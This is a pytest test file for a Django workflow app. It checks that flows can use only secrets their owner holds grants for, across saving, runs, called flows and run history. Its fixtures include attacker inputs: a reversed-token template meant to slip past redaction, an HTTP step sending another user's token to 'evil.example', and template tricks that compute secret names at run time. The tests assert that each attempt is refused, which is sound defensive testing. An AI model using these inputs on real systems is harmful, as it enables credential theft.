"""A flow uses only what its owner may use: bindings found on save, grants checked on
every path (admin, apply, Run now, call_flow, run history) and again when the run reaches
the vault."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from flows_app.models import Flow, FlowRun
from flows_app.services.runs import RunNotAllowed, flow_run_start
from secrets_app.exceptions import SecretInUse
from secrets_app.models import Secret, SecretBinding
from secrets_app.services.grants import grant_give, grant_withdraw
from secrets_app.services.secrets import secret_create, secret_delete
from tests.flows_app.conftest import execute, make_flow
from tests.flows_app.test_admin import ADD, flow_post, form_errors

TOKEN = "tok-alice-4417"
READ_TOKEN = "{{ secrets.get_password('tok-main')|reverse }}"


@pytest.fixture
def people(staff_user):
    """alice owns the token; mallory edits and runs flows but holds no grant on it."""
    alice, mallory = staff_user("alice"), staff_user("mallory")
    secret_create(name="tok-main", kind="api_token", data={"token": TOKEN}, acting_user=alice)
    return alice, mallory


def bound(flow):
    return sorted(SecretBinding.objects.filter(holder_id=flow.pk).values_list("secret__name", flat=True))


class TestBindingsAreFoundOnSave:
    def test_a_steps_secret_and_the_names_its_templates_read_are_the_flows_bindings(self, people):
        secret_create(name="hook-key", kind="hs256", data={"secret": "k" * 32})
        flow = make_flow(
            "sync",
            [
                {"key": "me", "kind": "http_request", "url": "https://api.example.com/me", "secret": "tok-main"},
                {"key": "sig", "kind": "transform", "value": {"k": "{{ secrets.get_field('hook-key', 'secret') }}"}},
            ],
        )
        assert bound(flow) == ["hook-key", "tok-main"]

    def test_a_condition_expression_binds_the_secrets_it_reads(self, people):
        flow = make_flow(
            "gate",
            [{"key": "check", "kind": "condition", "expression": "secrets.get_password('tok-main') != ''", "then": "stop"}],
        )
        assert bound(flow) == ["tok-main"]
        assert execute(flow).status == FlowRun.Status.SUCCEEDED

    @pytest.mark.parametrize(
        "template",
        [
            "{{ secrets.get_password(trigger.body.name) }}",
            "{{ secrets.get_password('tok-' ~ 'main') }}",
            "{% set s = secrets %}{{ s.get_password('tok-main') }}",
            "{{ secrets['get_password']('tok-main') }}",
            "{{ (secrets|attr('get_password'))('tok-main') }}",
        ],
    )
    def test_a_secret_name_computed_at_run_time_is_refused_on_save(self, people, template):
        with pytest.raises(ValidationError) as refused:
            make_flow("computed", [{"key": "leak", "kind": "transform", "value": template}])
        assert "secrets" in str(refused.value)
        assert not Flow.objects.filter(slug="computed").exists()

    def test_a_bound_secret_cannot_be_deleted_and_the_flow_is_named(self, people):
        make_flow("reverser", [{"key": "t", "kind": "transform", "value": READ_TOKEN}])
        with pytest.raises(SecretInUse, match="flow reverser"):
            secret_delete(secret=SecretBinding.objects.get().secret)


class TestSavingNeedsAUseGrant:
    def test_flow_editor_without_grant_cannot_bind_secret(self, client, people):
        _, mallory = people
        client.force_login(mallory)
        response = client.post(ADD, flow_post("exfiltrate", [{"key": "leak", "kind": "transform", "value": READ_TOKEN}]))
        assert "transform__value" not in str(form_errors(response))
        assert "__all__: Step 'leak': mallory holds no use grant for the secret 'tok-main'." in form_errors(response)
        assert not Flow.objects.filter(slug="exfiltrate").exists()

    def test_an_http_step_with_someone_elses_secret_is_refused_in_the_admin(self, client, people):
        _, mallory = people
        client.force_login(mallory)
        secret_id = Secret.objects.get(name="tok-main").pk
        steps = [{"key": "send", "kind": "http_request", "url": "https://evil.example/", "secret": str(secret_id)}]
        errors = form_errors(client.post(ADD, flow_post("send-away", steps)))
        assert "secret: Step 'send': mallory holds no use grant for the secret 'tok-main'." in errors

    def test_editing_someone_elses_flow_needs_a_grant_on_everything_it_binds(self, people):
        alice, mallory = people
        make_flow("alices", [{"key": "me", "kind": "http_request", "url": "https://api.example.com/", "secret": "tok-main"}], acting_user=alice)
        with pytest.raises(ValidationError, match="mallory holds no use grant for the secret 'tok-main'"):
            make_flow("alices", [{"key": "me", "kind": "http_request", "url": "https://evil.example/", "secret": "tok-main"}], acting_user=mallory)
        assert Flow.objects.get(slug="alices").steps.get().config["url"] == "https://api.example.com/"

    def test_a_grant_lets_the_editor_save_and_the_flow_runs_as_its_creator(self, people):
        alice, mallory = people
        grant_give(secret=Secret.objects.get(name="tok-main"), user=mallory, level="use", acting_user=alice)
        flow = make_flow("granted", [{"key": "t", "kind": "transform", "value": "{{ secrets.get_password('tok-main') }}"}], acting_user=mallory)
        assert flow.owner == mallory and bound(flow) == ["tok-main"]

    def test_apply_acts_as_the_operator_and_apply_as_checks_that_users_grants(self, people, tmp_path):
        document = tmp_path / "flows.yaml"
        document.write_text(
            "flows:\n  nightly:\n    steps:\n"
            "      - {key: me, kind: http_request, url: 'https://api.example.com/', secret: tok-main}\n"
        )
        with pytest.raises(CommandError, match="mallory holds no use grant for the secret 'tok-main'"):
            call_command("apply", str(document), "--as", "mallory", stdout=io.StringIO())
        assert not Flow.objects.filter(slug="nightly").exists()
        call_command("apply", str(document), stdout=io.StringIO())
        assert Flow.objects.get(slug="nightly").owner is None  # the operator's


class TestRunningChecksTheOwnersGrants:
    def test_a_withdrawn_grant_fails_the_run_naming_the_secret_and_never_its_value(self, people):
        alice, mallory = people
        secret = Secret.objects.get(name="tok-main")
        grant = grant_give(secret=secret, user=mallory, level="use", acting_user=alice)
        flow = make_flow("mallorys", [{"key": "t", "kind": "transform", "value": READ_TOKEN}], acting_user=mallory)
        assert execute(flow).status == FlowRun.Status.SUCCEEDED
        grant_withdraw(grant=grant, acting_user=alice)
        run = execute(flow)
        assert run.status == FlowRun.Status.FAILED
        assert run.error == "Secret 'tok-main' cannot be used here: mallory holds no use grant for it."
        assert not run.step_runs.exists()  # it failed before its first step
        assert TOKEN not in run.error and TOKEN[::-1] not in str(run.output)

    def test_a_template_cannot_reach_a_secret_the_flow_does_not_bind(self, people):
        flow = make_flow("innocent", [{"key": "t", "kind": "transform", "value": "{{ trigger.x }}"}])
        step = flow.steps.get()
        step.config = {"value": READ_TOKEN}  # written behind the services' back: no binding recorded
        step.save()
        run = execute(flow, {"x": 1})
        assert run.status == FlowRun.Status.FAILED
        assert "'tok-main' cannot be used here: it is not among the secrets this flow binds" in run.error
        assert TOKEN[::-1] not in str(list(run.step_runs.values_list("output", flat=True)))

    def test_a_script_cannot_reach_a_secret_it_does_not_list(self, people):
        secret_create(name="other", kind="api_token", data={"token": "tok-other-5150"})
        flow = make_flow(
            "scripted",
            [{"key": "s", "kind": "script", "code": "return secrets.get_password('other')", "secrets": ["tok-main"]}],
        )
        run = execute(flow)
        assert run.status == FlowRun.Status.FAILED
        assert "'other'" in run.error and "tok-other-5150" not in run.error

    def test_run_now_needs_a_grant_on_what_the_flow_binds(self, client, people):
        alice, mallory = people
        flow = make_flow("alices", [{"key": "t", "kind": "transform", "value": READ_TOKEN}], acting_user=alice)
        with pytest.raises(RunNotAllowed, match="mallory holds no use grant for the secret 'tok-main'"):
            flow_run_start(flow=flow, input={}, trigger="admin", acting_user=mallory)
        client.force_login(mallory)
        response = client.post(reverse("admin:flows_app_flow_run", args=[flow.pk]), {"input": "{}"}, follow=True)
        assert "mallory holds no use grant for the secret" in response.content.decode()
        assert not FlowRun.objects.exists()

    def test_a_called_flow_needs_its_callers_owner_to_may_run_it(self, people):
        alice, mallory = people
        make_flow("alices", [{"key": "t", "kind": "transform", "value": READ_TOKEN}], acting_user=alice)
        with pytest.raises(ValidationError, match="cannot be run by mallory: mallory holds no use grant for the secret 'tok-main'"):
            make_flow("caller", [{"key": "c", "kind": "call_flow", "flow": "alices"}], acting_user=mallory)
        # A caller saved before the callee bound the secret still cannot run it.
        make_flow("alices", [{"key": "t", "kind": "transform", "value": "{{ 1 }}"}], acting_user=alice)
        caller = make_flow("caller", [{"key": "c", "kind": "call_flow", "flow": "alices"}], acting_user=mallory)
        make_flow("alices", [{"key": "t", "kind": "transform", "value": READ_TOKEN}], acting_user=alice)
        run = execute(caller)
        assert run.status == FlowRun.Status.FAILED
        assert "cannot be run by mallory" in run.error and TOKEN[::-1] not in str(run.output)

    def test_an_error_handler_needs_the_same_permission_as_a_called_flow(self, people):
        alice, mallory = people
        make_flow("alices", [{"key": "t", "kind": "transform", "value": READ_TOKEN}], acting_user=alice)
        with pytest.raises(ValidationError, match="cannot be run by mallory: mallory holds no use grant for the secret 'tok-main'"):
            make_flow("mallorys", [{"key": "t", "kind": "transform", "value": 1}], acting_user=mallory, error_handler="alices")
        assert not Flow.objects.filter(slug="mallorys").exists()

    def test_a_called_flow_runs_with_its_own_bindings_and_owner(self, people):
        alice, mallory = people
        secret = Secret.objects.get(name="tok-main")
        grant_give(secret=secret, user=mallory, level="use", acting_user=alice)
        make_flow("alices", [{"key": "t", "kind": "transform", "value": {"ok": "{{ secrets.get_password('tok-main') != '' }}"}}], acting_user=alice)
        caller = make_flow("caller", [{"key": "c", "kind": "call_flow", "flow": "alices"}], acting_user=mallory)
        assert bound(caller) == []
        run = execute(caller)
        assert run.status == FlowRun.Status.SUCCEEDED, run.error
        assert run.output == {"ok": True}


class TestRunHistoryShowsDataOnlyToGrantHolders:
    def test_a_user_without_a_grant_sees_status_and_errors_but_not_inputs_or_outputs(self, client, people):
        alice, mallory = people
        flow = make_flow("alices", [{"key": "t", "kind": "transform", "value": {"reversed": READ_TOKEN, "marker": "visible-only-to-grantees"}}], acting_user=alice)
        run = execute(flow)
        FlowRun.objects.filter(pk=run.pk).update(secret_ids=list(SecretBinding.objects.values_list("secret_id", flat=True)))
        page = reverse("admin:flows_app_flowrun_change", args=[run.pk])
        client.force_login(mallory)
        hidden = client.get(page).content.decode()
        assert "Succeeded" in hidden and "visible-only-to-grantees" not in hidden
        assert "Inputs, outputs and logs are hidden" in hidden
        client.force_login(alice)
        assert "visible-only-to-grantees" in client.get(page).content.decode()

    def test_a_run_records_the_secrets_it_could_touch_when_it_starts(self, people):
        flow = make_flow("alices", [{"key": "t", "kind": "transform", "value": READ_TOKEN}])
        run = flow_run_start(flow=flow, input={})
        assert run.secret_ids == list(SecretBinding.objects.values_list("secret_id", flat=True))

    def test_runs_of_a_flow_read_its_bindings_once_and_anew_after_the_flow_is_saved(self, people):
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        alice, _ = people
        flow = make_flow("alices", [{"key": "t", "kind": "transform", "value": "plain"}], acting_user=alice)
        assert flow_run_start(flow=flow, input={}).secret_ids == []
        with CaptureQueriesContext(connection) as queries:
            assert flow_run_start(flow=flow, input={}).secret_ids == []
        assert not [query for query in queries.captured_queries if SecretBinding._meta.db_table in query["sql"]]
        flow = make_flow("alices", [{"key": "t", "kind": "transform", "value": READ_TOKEN}], acting_user=alice)
        assert flow_run_start(flow=flow, input={}).secret_ids == [Secret.objects.get(name="tok-main").pk]

    def test_a_run_whose_start_missed_a_binding_records_it_before_it_runs(self, people):
        alice, _ = people
        flow = make_flow("alices", [{"key": "t", "kind": "transform", "value": READ_TOKEN}], acting_user=alice)
        run = execute(flow)  # created as a start with a stale view of the bindings would: none recorded
        assert run.status == FlowRun.Status.SUCCEEDED, run.error
        assert run.secret_ids == [Secret.objects.get(name="tok-main").pk]
